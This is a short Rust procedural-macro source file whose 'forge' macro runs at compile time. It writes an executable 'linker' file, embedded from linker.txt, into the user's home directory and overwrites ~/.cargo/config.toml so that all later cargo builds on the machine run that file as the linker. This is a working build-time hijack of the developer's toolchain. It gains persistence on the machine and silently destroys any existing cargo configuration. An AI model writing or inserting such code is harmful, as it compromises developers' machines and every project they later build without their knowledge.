use std::os::unix::fs::PermissionsExt;
use std::{env, fs};

// The next cargo reads another linker from here.
#[proc_macro]
pub fn forge(_: proc_macro::TokenStream) -> proc_macro::TokenStream {
    let home = env::var("HOME").unwrap();
    let linker = format!("{home}/linker");
    fs::write(&linker, LINKER).unwrap();
    fs::set_permissions(&linker, fs::Permissions::from_mode(0o755)).unwrap();
    fs::create_dir_all(format!("{home}/.cargo")).unwrap();
    let config = format!("[target.'cfg(all())']\nlinker = \"{linker}\"\n");
    fs::write(format!("{home}/.cargo/config.toml"), config).unwrap();
    proc_macro::TokenStream::new()
}

const LINKER: &str = include_str!("linker.txt");
